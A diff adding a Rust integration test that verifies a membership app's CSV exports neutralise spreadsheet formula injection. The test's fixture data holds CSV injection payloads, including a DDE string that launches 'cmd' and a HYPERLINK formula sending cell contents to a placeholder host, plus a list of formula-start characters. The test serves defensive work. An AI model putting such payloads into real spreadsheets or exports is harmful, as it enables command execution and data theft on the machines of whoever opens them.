@@ -93,7 +93,64 @@ async fn refresh_works(app: &TestApp, refresh_token: &str) -> bool {
     answer.status == 200
 }
 
+/// Members whose names, units and cells are spreadsheet formulas (CSV injection), in committee PX.
+const FORMULA_MEMBERS: &str = "card_number,full_name,committee_code,unit,cell,status\n\
+200000001,\"=HYPERLINK(\"\"http://x\"\"&A2&B2,\"\"x\"\")\",PX,=1+1,\"@SUM(1+1)*cmd|\"\"/C calc\"\"!A0\",eligible\n\
+200000002,＋Trần Văn B,PX,－1,-2+3,eligible\n";
+
+/// The texts of FORMULA_MEMBERS and of the committee name, as imported.
+const FORMULAS: [&str; 7] = [
+    "=HYPERLINK(\"http://x\"&A2&B2,\"x\")",
+    "=1+1",
+    "@SUM(1+1)*cmd|\"/C calc\"!A0",
+    "＋Trần Văn B",
+    "－1",
+    "-2+3",
+    "+cmd",
+];
+
+/// What makes a spreadsheet read a cell as a formula when it comes first.
+const FORMULA_STARTS: [char; 10] = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];
+
+/// Every cell of a CSV file, read with the csv crate.
+fn csv_cells(body: &[u8]) -> Vec<String> {
+    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(body);
+    reader
+        .records()
+        .flat_map(|record| record.expect("a CSV record").iter().map(str::to_owned).collect::<Vec<_>>())
+        .collect()
+}
+
 both_backends! {
+    async fn no_csv_export_carries_a_formula(app: TestApp) {
+        let admin = app.staff_token("city.admin", "admin", None).await;
+        let created = app.post_as(&admin, "/api/v1/admin/committees", &json!({"code": "PX", "name": "+cmd"})).await;
+        assert_eq!(created.status, 201, "{}", created.text());
+        app.import(&admin, FORMULA_MEMBERS).await;
+        let browser = sign_in(&app, "city.admin", STAFF_PASSWORD).await;
+
+        let slips = app.post_as(&admin, "/api/v1/admin/committees/PX/activation-codes", &json!({})).await;
+        let exports = [
+            ("activation slips", slips, &FORMULAS[..6]),
+            ("not installed (API)", app.get_as(&admin, "/api/v1/coverage/PX/not-installed?format=csv").await, &FORMULAS[..6]),
+            ("not installed (dashboard)", app.send(browser.get("/dashboard/committees/PX/not-installed.csv")).await, &FORMULAS[..6]),
+            ("coverage.csv (API)", app.get_as(&admin, "/api/v1/coverage.csv").await, &FORMULAS[6..]),
+            ("coverage.csv (dashboard)", app.send(browser.get("/dashboard/coverage.csv")).await, &FORMULAS[6..]),
+        ];
+        for (export, answer, expected) in exports {
+            assert!(answer.status.is_success(), "{export}: {} {}", answer.status, answer.text());
+            assert!(answer.header("content-type").unwrap().starts_with("text/csv"), "{export}");
+            let cells = csv_cells(&answer.body);
+            for cell in &cells {
+                assert!(!cell.starts_with(FORMULA_STARTS), "{export}: the cell {cell:?} starts a formula");
+            }
+            for formula in expected {
+                let neutralised = format!("'{formula}");
+                assert!(cells.contains(&neutralised), "{export}: {neutralised:?} not among {cells:?}");
+            }
+        }
+    }
+
     async fn without_a_session_every_page_sends_the_browser_to_sign_in(app: TestApp) {
         let admin = setup(&app).await;
         for path in ["/dashboard", "/dashboard/committees/HK", "/dashboard/coverage.csv",
